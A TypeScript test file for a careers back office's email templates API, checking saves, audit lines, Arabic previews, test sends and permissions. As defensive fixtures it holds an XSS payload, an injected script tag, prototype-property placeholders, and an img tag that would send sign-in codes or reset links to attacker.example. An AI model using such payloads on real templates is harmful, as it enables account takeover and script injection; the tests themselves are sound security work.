// The Email templates page's API. The list by key, a save with its audit line, the
// preview through the real renderer (hostile values escaped, a hostile body unable to run), Send Test
// through the outbox to the SMTP capture, the security templates' rules and who may do any of it.
import {
  messages,
  PERMISSION_KEYS,
  placeholdersIn,
  SECURITY_EMAIL_TEMPLATES,
  TEMPLATE_TEST_SENDS_PER_HOUR,
  TEMPLATE_VARIABLES,
} from '@careers/shared';
import { describe, expect, it } from 'vitest';
import { createAdmin, postJson, signIn } from '../support/admin-session';
import { adminWithFlags } from '../support/custom-role';
import { readMailHtml } from '../support/mail-html';
import { withSettings } from '../support/settings';
import { getJson, testServer } from '../support/test-server';

const TEMPLATE = 'api::email-template.email-template';
const HOSTILE = '<img src=x onerror="alert(1)">';
let made = 0;

const server = await testServer();
const cookie = await signIn(server, await createAdmin(server, 'super_admin'));

/** A template of this test's own, so no other file's e-mails change. */
async function makeTemplate(overrides: Record<string, unknown> = {}) {
  made += 1;
  const key = `zz_test_${Date.now().toString(36)}_${made}`;
  return server.strapi.db.query(TEMPLATE).create({
    data: {
      name: `Test template ${made}`,
      template_key: key,
      subject: 'Your application for {{job_title}}',
      body: '<p>Dear {{applicant_name}}, thank you.</p>',
      variables: ['applicant_name', 'job_title'],
      is_active: true,
      ...overrides,
    },
  }) as Promise<{ id: number; documentId: string; template_key: string; subject: string; body: string }>;
}

const stored = (key: string) => server.strapi.db.query(TEMPLATE).findOne({ where: { template_key: key } });
const audits = (documentId: string) =>
  server.strapi.db
    .query('api::audit-event.audit-event')
    .findMany({ where: { entity_type: 'email_template', entity_id: documentId }, orderBy: { id: 'asc' } });
const list = (as = cookie) =>
  getJson(server, '/api/backoffice/email-templates?range=[0,999]', { headers: { cookie: as } });
const save = (id: string, body: unknown, as = cookie) =>
  postJson(server, `/api/backoffice/email-templates/${id}`, body, as, 'PUT');
const preview = (id: string, body: unknown, as = cookie) =>
  postJson(server, `/api/backoffice/email-templates/${id}/preview`, body, as) as Promise<{
    status: number;
    headers: Headers;
    body: { html: string; subject: string; missing: string[]; error?: { message: string } };
  }>;
const sendTest = (id: string, body: unknown, as = cookie) =>
  postJson(server, `/api/backoffice/email-templates/${id}/test`, body, as) as Promise<{
    status: number;
    body: { success?: boolean; message?: string; error?: { message: string } };
  }>;

describe('the templates list', () => {
  it('lists every template by key, with its variables, active flag and update time', async () => {
    const stamp = Date.now().toString(36);
    const later = await makeTemplate({ template_key: `zz_list_${stamp}_b` });
    const earlier = await makeTemplate({ template_key: `zz_list_${stamp}_a`, is_active: false });
    const { status, body } = await list();
    expect(status).toBe(200);
    const rows = body as { id: string; template_key: string }[];
    const keys = rows.map((row) => row.template_key);
    expect(keys).toEqual([...keys].sort());
    expect(keys.indexOf(earlier.template_key)).toBe(keys.indexOf(later.template_key) - 1);
    expect(rows.find((row) => row.id === earlier.documentId)).toEqual({
      id: earlier.documentId,
      name: expect.any(String),
      template_key: earlier.template_key,
      subject: 'Your application for {{job_title}}',
      body: '<p>Dear {{applicant_name}}, thank you.</p>',
      // No Arabic wording: candidates who applied in Arabic get the English.
      subject_ar: '',
      body_ar: '',
      variables: ['applicant_name', 'job_title'],
      is_active: false,
      updated_at: expect.stringMatching(/^\d{4}-\d\d-\d\dT/),
    });
  });
});

describe('saving a template', () => {
  it('changes subject, body and active flag, with one audit line naming who', async () => {
    const template = await makeTemplate();
    const answer = await save(template.documentId, {
      subject: 'Update on {{job_title}}',
      body: '<p>Hello {{applicant_name}}</p>',
      is_active: false,
    });
    expect(answer.status).toBe(200);
    expect(answer.body).toMatchObject({ subject: 'Update on {{job_title}}', is_active: false });
    expect(await stored(template.template_key)).toMatchObject({
      subject: 'Update on {{job_title}}',
      body: '<p>Hello {{applicant_name}}</p>',
      is_active: false,
    });
    const lines = await audits(template.documentId);
    expect(lines.map((line) => [line.action, line.details])).toEqual([
      [
        'email_template.updated',
        { template_key: template.template_key, is_active: false, subject_changed: true, body_changed: true },
      ],
    ]);
    expect(lines[0]?.actor_email).toMatch(/^super_admin\./);
  });

  it('refuses a blank subject, unknown fields and unknown templates, changing nothing', async () => {
    const template = await makeTemplate();
    const blank = await save(template.documentId, { subject: '  ', body: '<p>x</p>', is_active: true });
    expect(blank.status).toBe(400);
    expect(blank.body.error?.message).toBe(messages.validation.required);
    const renamed = await save(template.documentId, {
      subject: 's',
      body: 'b',
      is_active: true,
      template_key: 'sign_in_code',
    });
    expect(renamed.status).toBe(400);
    expect(await stored(template.template_key)).toMatchObject({ subject: template.subject, body: template.body });
    expect(await audits(template.documentId)).toHaveLength(0);
    const body = { subject: 's', body: 'b', is_active: true };
    expect((await save('zzzzzzzzzzzzzzzzzzzzzzzz', body)).status).toBe(404);
    expect((await preview('zzzzzzzzzzzzzzzzzzzzzzzz', {})).status).toBe(404);
    expect((await sendTest('zzzzzzzzzzzzzzzzzzzzzzzz', { to: 'editor@example.com' })).status).toBe(404);
    expect((await preview(template.documentId, { subject: 's', name: 'x' })).status).toBe(400);
    // No creating or deleting templates from the back office: the system sends a fixed set.
    expect((await postJson(server, '/api/backoffice/email-templates', body, cookie)).status).toBe(405);
    expect(
      (await postJson(server, `/api/backoffice/email-templates/${template.documentId}`, {}, cookie, 'DELETE')).status,
    ).toBe(405);
  });

  it('changes the Arabic wording beside the English, refusing in it a placeholder the e-mail is never given', async () => {
    const template = await makeTemplate();
    const english = { subject: template.subject, body: template.body, is_active: true };
    const refused = await save(template.documentId, {
      ...english,
      subject_ar: 'طلبك {{ job_titel }}',
      body_ar: '<p>.</p>',
    });
    expect(refused.status).toBe(400);
    expect(refused.body.error?.message).toBe(
      messages.emailTemplates.unknownVariables(['job_titel'], ['applicant_name', 'job_title']),
    );
    const answer = await save(template.documentId, {
      ...english,
      subject_ar: 'طلبك لوظيفة {{job_title}}',
      body_ar: '<p>عزيزي {{applicant_name}}</p>',
    });
    expect(answer.status).toBe(200);
    expect(answer.body).toMatchObject({
      subject_ar: 'طلبك لوظيفة {{job_title}}',
      body_ar: '<p>عزيزي {{applicant_name}}</p>',
    });
    expect((await audits(template.documentId)).map((line) => line.details)).toEqual([
      {
        template_key: template.template_key,
        is_active: true,
        subject_changed: false,
        body_changed: false,
        arabic_changed: true,
      },
    ]);
    // A save without the Arabic fields leaves them as they were.
    await save(template.documentId, { ...english, subject: 'Still {{job_title}}' });
    expect(await stored(template.template_key)).toMatchObject({ subject_ar: 'طلبك لوظيفة {{job_title}}' });
  });

  it("gives a template from before the Arabic site its Arabic once, never over an editor's wording", async () => {
    const { ensureReferenceData } = await import('../../src/seed/reference-data');
    const { readEnv } = await import('../../src/platform/config/env');
    const rejection = await stored('rejection');
    const arabic = { subject_ar: rejection.subject_ar, body_ar: rejection.body_ar };
    expect(arabic.subject_ar).toMatch(/[\u0621-\u064A]/);
    const rows = () => server.strapi.db.query(TEMPLATE);
    try {
      await rows().update({ where: { id: rejection.id }, data: { subject_ar: null, body_ar: null } });
      await ensureReferenceData(server.strapi, readEnv());
      expect(await stored('rejection')).toMatchObject(arabic);
      // Emptied on purpose: Arabic candidates get the English, and a restart keeps it so.
      await rows().update({ where: { id: rejection.id }, data: { subject_ar: '', body_ar: '' } });
      await ensureReferenceData(server.strapi, readEnv());
      expect(await stored('rejection')).toMatchObject({ subject_ar: '', body_ar: '' });
    } finally {
      await rows().update({ where: { id: rejection.id }, data: arabic });
    }
  });

  it('refuses a placeholder its e-mail is never given, listing the allowed ones, and changes nothing', async () => {
    // Once, `{{constructor}}` rendered Object's source and a typo stopped every e-mail.
    const rejection = await stored('rejection');
    const auditsBefore = (await audits(rejection.documentId)).length;
    for (const [field, text, unknown] of [
      ['body', '<p>{{constructor}}</p>', 'constructor'],
      ['subject', 'About {{ job_titel }}', 'job_titel'],
    ] as const) {
      const answer = await save(rejection.documentId, {
        subject: rejection.subject,
        body: rejection.body,
        is_active: true,
        [field]: text,
      });
      expect(answer.status, text).toBe(400);
      expect(answer.body.error?.message).toBe(
        messages.emailTemplates.unknownVariables([unknown], TEMPLATE_VARIABLES.rejection),
      );
    }
    expect(await stored('rejection')).toMatchObject({ subject: rejection.subject, body: rejection.body });
    expect(await audits(rejection.documentId)).toHaveLength(auditsBefore);
    // A template no code sends keeps to the variables it declares.
    const own = await makeTemplate();
    const refused = await save(own.documentId, { subject: 's', body: '{{shoe_size}}', is_active: true });
    expect(refused.body.error?.message).toBe(
      messages.emailTemplates.unknownVariables(['shoe_size'], ['applicant_name', 'job_title']),
    );
  });

  it('offers exactly the variables a save accepts, and every seeded template keeps to them', async () => {
    const { body } = await list();
    const rows = body as { template_key: string; subject: string; body: string; variables: string[] }[];
    for (const [key, allowed] of Object.entries(TEMPLATE_VARIABLES)) {
      const row = rows.find((candidate) => candidate.template_key === key);
      expect(row?.variables, key).toEqual(allowed);
      const used = placeholdersIn(`${row?.subject} ${row?.body}`);
      expect(
        used.filter((name) => !allowed.includes(name)),
        key,
      ).toEqual([]);
    }
  });

  it.each(Object.entries(SECURITY_EMAIL_TEMPLATES))(
    'keeps the %s template active and its variable in the body',
    async (key, { name, variable }) => {
      // The one row of this key (keys are unique): the seeded one, shared with other files, so the
      // audit lines are counted before and after rather than expected to be none.
      const before = await stored(key);
      const auditsBefore = (await audits(before.documentId)).length;
      const off = await save(before.documentId, { subject: before.subject, body: before.body, is_active: false });
      expect(off.status).toBe(400);
      expect(off.body.error?.message).toBe(messages.emailTemplates.securityTemplateActive(name));
      const without = await save(before.documentId, { subject: before.subject, body: '<p>Hi</p>', is_active: true });
      expect(without.status).toBe(400);
      expect(without.body.error?.message).toBe(messages.emailTemplates.securityTemplateVariable(name, variable));
      expect(await stored(key)).toMatchObject({ body: before.body, is_active: true });
      expect(await audits(before.documentId)).toHaveLength(auditsBefore);
    },
  );
});

describe('the preview', () => {
  it('renders the saved template with sample values through the e-mail layout', async () => {
    const template = await makeTemplate();
    const { status, body } = await preview(template.documentId, {});
    expect(status).toBe(200);
    expect(body.subject).toBe('Your application for Senior Accountant');
    expect(body.html).toContain('<p>Dear Maryam Al Sayed, thank you.</p>');
    expect(body.missing).toEqual([]);
  });

  it('renders the saved Arabic wording right to left when asked for the Arabic, and its draft over it', async () => {
    const template = await makeTemplate({
      subject_ar: 'طلبك لوظيفة {{job_title}}',
      body_ar: '<p>عزيزي/عزيزتي {{applicant_name}}، شكرًا لك. تاريخ طلبك: {{application_date}}</p>',
    });
    const saved = await preview(template.documentId, { language: 'ar' });
    expect(saved.status).toBe(200);
    // Sample values as an Arabic application gives them: Arabic name and job, Arabic month names.
    expect(saved.body.subject).toBe('طلبك لوظيفة محاسب أول');
    expect(saved.body.html).toContain('<html lang="ar" dir="rtl">');
    expect(saved.body.html).toContain('<p>عزيزي/عزيزتي مريم السيد، شكرًا لك. تاريخ طلبك: 22 نوفمبر 2026</p>');
    const draft = await preview(template.documentId, { language: 'ar', subject: 'مسودة {{reference_id}}' });
    expect(draft.body.subject).toBe('مسودة GH-7K3M9Q2P');
    expect((await preview(template.documentId, { language: 'fr' })).status).toBe(400);
  });

  it('renders the unsaved draft, showing variables that have no sample value', async () => {
    const template = await makeTemplate();
    const { body } = await preview(template.documentId, { body: '<p>{{reference_id}} {{shoe_size}}</p>' });
    expect(body.subject).toBe('Your application for Senior Accountant');
    expect(body.html).toContain('<p>GH-7K3M9Q2P {{shoe_size}}</p>');
    expect(body.missing).toEqual(['shoe_size']);
    expect(await stored(template.template_key)).toMatchObject({ body: template.body });
  });

  it('fills no placeholder from Object.prototype: `{{constructor}}` is a missing variable', async () => {
    const template = await makeTemplate();
    const { body } = await preview(template.documentId, {
      body: '<p>{{constructor}} {{toString}} {{__proto__}} {{applicant_name}}</p>',
    });
    expect(body.html).not.toMatch(/native code|\[object Object\]/);
    expect(body.html).toContain('<p>{{constructor}} {{toString}} {{__proto__}} Maryam Al Sayed</p>');
    expect(body.missing).toEqual(['__proto__', 'constructor', 'toString']);
  });

  it('escapes hostile values, and a hostile body cannot run script where it is shown', async () => {
    const template = await makeTemplate();
    await withSettings(server.strapi, server.load, { company_name: HOSTILE }, async () => {
      const { status, headers, body } = await preview(template.documentId, {
        subject: '{{company_name}} news',
        body: '<p>From {{company_name}}</p><script>parent.document.title = "owned"</script>',
      });
      expect(status).toBe(200);
      expect(body.html).not.toContain(HOSTILE);
      expect(readMailHtml(body.html).text).toContain(`From ${HOSTILE}`);
      expect(body.subject).toBe(`${HOSTILE} news`);
      // The editor's script is left out of the message, and the document allows no script at all.
      expect(body.html).not.toContain('<script');
      const policy = /<meta http-equiv="Content-Security-Policy" content="([^"]+)">/.exec(body.html)?.[1] ?? '';
      expect(policy.split('; ')).toContain("default-src 'none'");
      expect(policy).not.toMatch(/script-src|unsafe-eval/);
      expect(headers.get('content-security-policy')).toMatch(/default-src 'none'.*sandbox/);
    });
  });
});

describe('Send Test', () => {
  it('sends the draft through the outbox and SMTP with [TEST] before the subject and the warning', async () => {
    const template = await makeTemplate();
    const to = `editor.${Date.now()}@example.com`;
    const answer = await sendTest(template.documentId, { to, subject: 'Draft about {{job_title}}' });
    expect(answer.status).toBe(200);
    expect(answer.body).toEqual({ success: true, message: messages.settings.testEmailSent(to) });
    const [mail] = server.smtp.to(to);
    expect(mail?.subject).toBe('[TEST] Draft about Senior Accountant');
    expect(mail?.text).toContain('This is a test e-mail from the back office.');
    expect(mail?.html).toContain('<p>Dear Maryam Al Sayed, thank you.</p>');
    const logged = await server.strapi.db
      .query('api::outbox-message.outbox-message')
      .findOne({ where: { recipient: to } });
    expect(logged).toMatchObject({ status: 'sent', purpose: 'test' });
    // The audit line was written with the outbox row, and names it.
    expect((await audits(template.documentId)).map((line) => [line.action, line.details])).toEqual([
      ['email_template.test_sent', { template_key: template.template_key, to, outbox_id: logged?.id }],
    ]);
  });

  it(`refuses more than ${TEMPLATE_TEST_SENDS_PER_HOUR} test sends an hour from one admin, sending nothing more`, async () => {
    const template = await makeTemplate();
    const sender = await signIn(server, await createAdmin(server, 'super_admin'));
    const to = `limit.${Date.now()}@example.com`;
    for (let sent = 0; sent < TEMPLATE_TEST_SENDS_PER_HOUR; sent += 1) {
      expect((await sendTest(template.documentId, { to }, sender)).body.success).toBe(true);
    }
    const refused = await sendTest(template.documentId, { to }, sender);
    expect(refused.status).toBe(429);
    expect(refused.body.error?.message).toBe(messages.emailTemplates.testSendLimit(TEMPLATE_TEST_SENDS_PER_HOUR));
    expect(server.smtp.to(to)).toHaveLength(TEMPLATE_TEST_SENDS_PER_HOUR);
    const outbox = server.strapi.db.query('api::outbox-message.outbox-message');
    expect(await outbox.count({ where: { recipient: to } })).toBe(TEMPLATE_TEST_SENDS_PER_HOUR);
    expect(await audits(template.documentId)).toHaveLength(TEMPLATE_TEST_SENDS_PER_HOUR);
    // The limit is the admin's own: another admin still sends.
    expect((await sendTest(template.documentId, { to })).body.success).toBe(true);
  });

  it('refuses an address that is not one, sending nothing', async () => {
    const template = await makeTemplate();
    for (const to of ['not-an-email', 'editor@example', 'two words@example.com', '']) {
      const answer = await sendTest(template.documentId, { to });
      expect(answer.status, to).toBe(400);
      expect(answer.body.error?.message).toBe(messages.settings.invalidEmail);
    }
    expect(server.smtp.to('editor@example')).toHaveLength(0);
  });

  it('answers the failure and its error when the mail server refuses', async () => {
    const template = await makeTemplate();
    server.smtp.refuseNext(1);
    const answer = await sendTest(template.documentId, { to: 'refused.test@example.com' });
    expect(answer.status).toBe(200);
    expect(answer.body).toMatchObject({ success: false, message: messages.settings.sendEmailFailed });
    expect((answer.body as { error?: string }).error).toMatch(/451/);
  });
});

describe('permissions', () => {
  it('refuses every call to a role without manage_settings, and admits one with it alone', async () => {
    const template = await makeTemplate();
    const allButSettings = PERMISSION_KEYS.filter((flag) => flag !== 'manage_settings');
    const others = await signIn(server, await adminWithFlags(server, allButSettings));
    const settingsOnly = await signIn(server, await adminWithFlags(server, ['manage_settings']));
    const edit = { subject: 'Changed', body: '<p>x</p>', is_active: true };
    expect((await list(others)).status).toBe(403);
    expect((await save(template.documentId, edit, others)).status).toBe(403);
    expect((await preview(template.documentId, {}, others)).status).toBe(403);
    expect((await sendTest(template.documentId, { to: 'x@example.com' }, others)).status).toBe(403);
    expect(await stored(template.template_key)).toMatchObject({ subject: template.subject });
    expect((await list(settingsOnly)).status).toBe(200);
    expect((await preview(template.documentId, {}, settingsOnly)).status).toBe(200);
    expect((await save(template.documentId, edit, settingsOnly)).status).toBe(200);
  });

  it.each(Object.entries(SECURITY_EMAIL_TEMPLATES))(
    'lets only an admin with every permission change or test the %s e-mail (its link cannot be sent away)',
    async (key, { name, variable }) => {
      // The built-in admin role manages settings but not users or roles: changing this e-mail would
      // let it read another admin's code or reset link, and so become them.
      const settingsAdmin = await signIn(server, await createAdmin(server, 'admin'));
      const before = await stored(key);
      const auditsBefore = (await audits(before.documentId)).length;
      const attacker = `attacker.${Date.now()}@attacker.example`;
      const hostile = `${before.body}<img src="https://attacker.example/?l={{${variable}}}">`;
      const refusal = messages.emailTemplates.securityTemplateFullAccessOnly(name);

      const attack = await save(
        before.documentId,
        { subject: before.subject, body: hostile, is_active: true },
        settingsAdmin,
      );
      expect(attack.status).toBe(403);
      expect(attack.body.error?.message).toBe(refusal);
      const probe = await sendTest(before.documentId, { to: attacker, body: hostile }, settingsAdmin);
      expect(probe.status).toBe(403);
      expect(probe.body.error?.message).toBe(refusal);
      expect(await stored(key)).toMatchObject({ subject: before.subject, body: before.body, is_active: true });
      expect(await audits(before.documentId)).toHaveLength(auditsBefore);
      expect(server.smtp.to(attacker)).toHaveLength(0);

      // A super_admin still can (the same wording written back, so other files' e-mails are as they were).
      const kept = await save(before.documentId, { subject: before.subject, body: before.body, is_active: true });
      expect(kept.status).toBe(200);
      expect(await audits(before.documentId)).toHaveLength(auditsBefore + 1);
    },
  );
});
